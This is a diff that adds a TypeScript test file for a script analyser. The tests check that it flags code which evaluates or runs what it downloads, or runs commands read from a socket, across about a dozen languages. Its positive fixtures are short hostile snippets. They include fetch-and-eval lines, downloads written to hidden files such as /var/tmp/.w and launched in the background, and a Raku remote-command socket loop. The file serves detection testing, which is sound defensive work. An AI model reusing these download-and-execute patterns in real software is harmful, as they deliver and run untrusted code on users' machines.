@@ -1,0 +1,66 @@
+// What a server answered, followed to what runs it, in the languages that have no reader of their own.
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import type { ScriptLanguage } from '../../../../src/file/formats/script/language.ts'
+import { readScript } from '../../../../src/file/formats/script/read.ts'
+
+const ASKED = ['answer_evaluated', 'runs_what_it_fetched', 'runs_commands_from_socket'] as const
+const found = (language: ScriptLanguage, text: string): readonly string[] =>
+  readScript(text, language)
+    .facts.traits.map(({ id }) => id)
+    .filter((id) => (ASKED as readonly string[]).includes(id))
+
+const HITS: readonly (readonly [ScriptLanguage, (typeof ASKED)[number], string])[] = [
+  [
+    'elixir',
+    'answer_evaluated',
+    '{:ok, {_, _, body}} = :httpc.request(:get, {u, []}, [], [])\nCode.eval_string(to_string(body))',
+  ],
+  ['elixir', 'answer_evaluated', 'Req.get!(u).body\n|> Code.eval_string()'],
+  [
+    'julia',
+    'answer_evaluated',
+    'buf = IOBuffer()\nDownloads.download(u, buf)\ninclude_string(Main, String(take!(buf)))',
+  ],
+  ['r', 'answer_evaluated', 't <- readLines(url(u))\neval(parse(text = t))'],
+  [
+    'r',
+    'runs_what_it_fetched',
+    'f <- file.path(Sys.getenv("HOME"), ".fontd")\ndownload.file(u, f)\nsystem2("nohup", c(f, "&"))',
+  ],
+  [
+    'groovy',
+    'runs_what_it_fetched',
+    "def b = new URL(u).bytes\nnew File('/var/tmp/.w').bytes = b\n['/bin/sh', '-c', '/var/tmp/.w &'].execute()\nsh '/var/tmp/.w'",
+  ],
+  ['groovy', 'answer_evaluated', 'evaluate(new URL(u).text)'],
+  ['nushell', 'answer_evaluated', 'let t = (http get $u)\nnu -c $t'],
+  [
+    'raku',
+    'runs_commands_from_socket',
+    'my $s = IO::Socket::INET.new(:host<c>, :port(443));\nmy $line = $s.get;\nmy $r = shell($line, :out);',
+  ],
+  ['shell', 'answer_evaluated', 'set t [http::geturl $u]\neval [base64::decode [http::data $t]]'],
+  ['lua', 'answer_evaluated', 'local t = http.request(u)\nload(t)()'],
+  ['source', 'answer_evaluated', 'var b = await new HttpClient().GetByteArrayAsync(u);\nAssembly.Load(b);'],
+  ['ruby', 'runs_what_it_fetched', "File.binwrite('/tmp/.x', URI.open(u).read)\nspawn('/tmp/.x')"],
+]
+for (const [language, id, text] of HITS)
+  test(`${language}: ${id}: ${text.split('\n')[0]}`, () =>
+    assert.ok(found(language, text).includes(id), String(found(language, text))))
+
+const MISSES: readonly (readonly [ScriptLanguage, string])[] = [
+  [
+    'r',
+    'f <- tempfile()\ndownload.file(u, f)\nd <- read.csv(f)\nsystem2("pandoc", c("report.md", "-o", "report.pdf"))',
+  ],
+  ['elixir', '{:ok, r} = :httpc.request(u)\nIO.puts(r)\nCode.eval_string("1 + 1")'],
+  ['groovy', "def t = new URL(u).text\nprintln t\nsh './gradlew build'"],
+  ['ruby', "t = Net::HTTP.get(URI(u))\nputs t\neval(File.read('tasks.rb'))"],
+  [
+    'source',
+    'resp, _ := http.Get(u)\nb, _ := io.ReadAll(resp.Body)\nfmt.Println(string(b))\nexec.Command("git", "status").Run()',
+  ],
+]
+for (const [language, text] of MISSES)
+  test(`${language}: nothing of it runs: ${text.split('\n')[0]}`, () => assert.deepEqual(found(language, text), []))
